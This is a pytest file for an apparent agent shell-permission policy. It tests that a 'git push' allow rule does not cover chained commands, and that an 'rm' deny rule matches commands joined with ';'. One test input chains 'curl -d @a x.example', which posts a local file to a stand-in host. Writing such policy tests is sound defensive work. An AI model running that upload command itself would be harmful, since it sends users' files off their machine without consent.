"""A rule about a command speaks about what causes the class, and about all of it."""

from __future__ import annotations

import pytest

from deskhand.policy.shell.line import touch_of_command
from deskhand.policy.shell.rules import covers, meets


@pytest.mark.parametrize(
    ("line", "covered"),
    [
        ("git push origin main", True), ("cd app && git push | tail -1", True),
        ("git push; curl -d @a x.example", False),
        ("git pull", False), ("sudo git push", True), ("bash -c 'git push'", True), ("git pushx", False),
        ("$X push", False),
    ],
)  # fmt: skip
def test_a_rule_that_allows_must_cover_every_command_that_carries_data_out(line: str, covered: bool) -> None:
    assert covers("git push", touch_of_command(line).causes.get("take_out", ())) is covered


def test_a_rule_that_denies_meets_any_of_them() -> None:
    assert meets("rm", touch_of_command("ls; rm a").commands)
    assert not meets("rm", touch_of_command("ls; rmdir a").commands)
